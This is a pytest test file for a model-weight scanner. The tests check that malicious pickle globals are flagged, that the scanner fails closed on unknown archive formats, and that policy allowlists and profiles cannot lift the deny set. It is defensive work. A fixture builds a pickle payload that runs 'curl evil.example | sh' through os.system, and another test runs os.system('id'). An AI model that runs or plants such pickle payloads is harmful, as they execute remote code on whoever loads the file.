"""WG5xx pickle findings through the gate: located at the file's manifest line, judged with the policy."""

import gzip

import pytest

from conftest import rule_ids, safetensors_bytes
from formats.pickles import G, NewObj, call, dumps, torch_state_dict, torch_zip
from weightgate.errors import PolicyError

PAYLOAD = dumps(call("os", "system", "curl evil.example | sh"), 2)
PERMIT_TORCH = {"pytorch-zip": "permitted", "pickle": "permitted", "joblib": "permitted"}


def test_payload_inside_a_torch_zip_is_reported_at_the_files_manifest_line(ws) -> None:
    files = {"model.safetensors": safetensors_bytes(), "model.pt": torch_zip(PAYLOAD, "checkpoint")}
    manifest = ws.write_manifest([ws.artifact("a", files=files)])
    report = ws.check(manifest)
    assert rule_ids(report) == ["WG401", "WG502"]
    finding = next(f for f in report.active_findings if f.rule.id == "WG502")
    assert finding.severity.value == "critical"
    assert finding.message.startswith("model.pt: zip member 'checkpoint/data.pkl': pickle global os.system")
    assert "model.pt" in manifest.read_text().splitlines()[finding.location.line - 1]
    assert ("global", "os.system") in finding.evidence


def test_benign_torch_zip_passes_when_the_policy_permits_the_format(ws) -> None:
    policy = ws.write_policy(formats=PERMIT_TORCH)
    report = ws.check(ws.write_manifest([ws.artifact("a", files={"model.pt": torch_zip(dumps(torch_state_dict()))})]),
                      policy=policy)
    assert rule_ids(report) == []


def test_policy_allowlists_a_reviewed_class(ws) -> None:
    files = {"model.pkl": dumps({"head": NewObj(G("mylab.layers", "Head"), ())}, 4)}
    manifest = ws.write_manifest([ws.artifact("a", files=files)])
    assert rule_ids(ws.check(manifest, policy=ws.write_policy(formats=PERMIT_TORCH))) == ["WG501"]
    allowing = ws.write_policy(formats=PERMIT_TORCH, pickle={"allow_globals": ["mylab.layers.*"]})
    assert rule_ids(ws.check(manifest, policy=allowing)) == []


def test_policy_cannot_allowlist_the_deny_set(ws) -> None:
    policy = ws.write_policy(pickle={"allow_globals": ["os.system"]})
    with pytest.raises(PolicyError, match="deny set"):
        ws.check(ws.write_manifest([ws.artifact("a")]), policy=policy)


def test_wholesale_module_allowlisting_leaves_denied_globals_reported(ws) -> None:
    files = {"model.pkl": dumps(call("torch", "load", "other.pt"), 2)}
    policy = ws.write_policy(formats=PERMIT_TORCH, pickle={"allow_globals": ["torch.*"]})
    assert rule_ids(ws.check(ws.write_manifest([ws.artifact("a", files=files)]), policy=policy)) == ["WG502"]


def test_gzipped_pickle_named_bin_is_still_a_pickle(ws) -> None:
    report = ws.check(ws.write_manifest([ws.artifact("a", files={"pytorch_model.bin": gzip.compress(PAYLOAD)})]))
    assert rule_ids(report) == ["WG401", "WG502"]  # joblib (a compressed pickle) is prohibited, and the payload


def test_seven_zip_wrapped_files_fail_closed_by_format_policy(ws) -> None:
    report = ws.check(ws.write_manifest([ws.artifact("a", files={"model.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" +
                                                                bytes(64)})]))
    assert rule_ids(report) == ["WG401"]


def test_a_profile_allowlists_a_librarys_classes_through_the_gate(ws) -> None:
    files = {"model.pkl": dumps({"lda": NewObj(G("gensim.models.ldamodel", "LdaModel"), ())}, 4)}
    manifest = ws.write_manifest([ws.artifact("a", files=files)])
    assert rule_ids(ws.check(manifest, policy=ws.write_policy(formats=PERMIT_TORCH))) == ["WG501"]
    gensim = ws.write_policy(formats=PERMIT_TORCH, pickle={"allow_profiles": ["gensim"]})
    assert rule_ids(ws.check(manifest, policy=gensim)) == []
    other = ws.write_policy(formats=PERMIT_TORCH, pickle={"allow_profiles": ["sklearn"]})  # near miss
    assert rule_ids(ws.check(manifest, policy=other)) == ["WG501"]


def test_a_profile_never_lifts_the_deny_set(ws) -> None:
    files = {"model.pkl": dumps([NewObj(G("gensim.models.ldamodel", "LdaModel"), ()), call("os", "system", "id")], 4)}
    policy = ws.write_policy(formats=PERMIT_TORCH, pickle={"allow_profiles": ["gensim", "numpy", "sklearn"]})
    assert rule_ids(ws.check(ws.write_manifest([ws.artifact("a", files=files)]), policy=policy)) == ["WG502"]


def test_an_unknown_profile_is_a_policy_error(ws) -> None:
    policy = ws.write_policy(pickle={"allow_profiles": ["gensym"]})
    with pytest.raises(PolicyError, match="'gensym' is not one of: gensim, "):
        ws.check(ws.write_manifest([ws.artifact("a")]), policy=policy)
